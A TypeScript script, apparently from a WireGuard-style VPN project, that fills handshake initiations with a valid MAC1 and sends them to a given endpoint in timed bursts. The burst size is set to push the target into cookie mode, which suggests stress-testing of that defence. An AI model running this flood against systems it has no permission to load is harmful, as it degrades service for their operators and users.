import { randomBytes } from "node:crypto";
import { nodePrimitives as p } from "./crypto/node-primitives.ts";
import { newArena, regions } from "./engine/arena.ts";
import { openLibc } from "./linux/libc.ts";
import { OffloadSocket } from "./linux/offload-socket.ts";
import { endpointOf } from "./protocol/endpoint.ts";
import { initiation } from "./protocol/messages.ts";

/**
 * Floods a device with initiations whose MAC1 is right, until it is ended: `node … PUBLIC_KEY_HEX ADDRESS PORT`. Each
 * burst is more than a device takes before it asks for cookies, and less than it holds.
 */
const [key = "", address = "", port = ""] = process.argv.slice(2);
const burst = 320;
const everyMs = 100;
const trainMessages = 64;

const macKey = p.hash(new TextEncoder().encode("mac1----"), Buffer.from(key, "hex"));
const arena = newArena();
const to = endpointOf(address, Number(port));
if (to === null) throw new Error(`${address} port ${port} is no endpoint`);
for (let each = 0; each < trainMessages; each++) {
	const message = Uint8Array.from(randomBytes(initiation.bytes));
	message.set([initiation.type, 0, 0, 0]);
	message.set(p.mac(macKey, message.subarray(0, initiation.mac1)), initiation.mac1);
	message.fill(0, initiation.mac2);
	arena.bytes.set(message, regions.train.at + each * initiation.bytes);
}
const socket = new OffloadSocket(openLibc(), arena, { port: 0, offload: true }, () => {});
setInterval(() => {
	for (let sent = 0; sent < burst; sent += trainMessages)
		socket.send(to, regions.train.at, trainMessages * initiation.bytes, initiation.bytes);
}, everyMs);
